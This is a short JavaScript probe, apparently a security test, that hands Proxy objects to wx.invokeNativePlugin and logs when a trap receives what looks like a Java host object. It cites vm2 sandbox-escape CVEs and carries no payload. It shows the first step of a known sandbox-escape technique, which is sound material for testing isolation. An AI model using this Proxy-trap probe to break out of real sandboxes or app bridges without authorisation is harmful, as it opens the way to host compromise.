// Gives a Proxy as options, and looks for objects of the host in what its traps receive
// Source: CVE-2023-37903, CVE-2021-23449 (vm2)
const strange = (value) => {
  if (value && (typeof value === 'object' || typeof value === 'function') && 'getClass' in value) {
    console.log('ESCAPED: an object of Java');
  }
};
const traps = new Proxy({}, {
  get: (t, trap) => (...all) => {
    all.forEach(strange);
    return Reflect[trap](...all);
  },
});
const target = { api_name: 'echo', data: {}, success() {}, fail() {} };
wx.invokeNativePlugin(new Proxy(target, traps));
wx.invokeNativePlugin({ ...target, data: new Proxy({ a: { b: 1 } }, traps) });
wx.invokeNativePlugin({ ...target, data: new Proxy([1, 2], traps) });
